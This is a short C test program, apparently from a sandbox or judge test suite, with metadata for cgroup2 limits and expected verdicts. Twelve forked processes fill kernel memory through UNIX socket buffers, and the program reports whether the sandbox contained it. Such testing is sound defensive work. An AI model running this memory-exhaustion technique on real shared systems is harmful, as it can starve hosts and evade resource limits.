//: intent = "Fills the kernel's memory from many processes: sockets, each of which is small."
//: mode = "cgroup2"
//: request = { compile = { limits = { cpu_time_ms = 60000, wall_time_ms = 120000 } } }
//: verdict = ["AC", "MLE"]
//: why = "a send may fail before the killer comes"
//: control = { ulimit = "-n 1024" }
//: limits = { cpu_time_ms = 10000, wall_time_ms = 30000 }
#include "attack.h"
#include <sys/socket.h>

int main(void) {
    static char block[65536];
    long *held = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    for (int child = 0; child < 12; child++)
        if (fork() == 0) {
            for (int ends[2]; *held < 96 << 20 && socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, ends) == 0;)
                for (int i = 0; i < 2; i++)
                    for (ssize_t n; (n = write(ends[i], block, sizeof block)) > 0;)
                        __atomic_add_fetch(held, n, __ATOMIC_SEQ_CST);
            pause();
        }
    for (int i = 0; i < 100 && *held < 96 << 20; i++)
        usleep(10000);
    if (*held >= 96 << 20)
        escaped("%ld bytes in sockets", *held);
    contained();
}
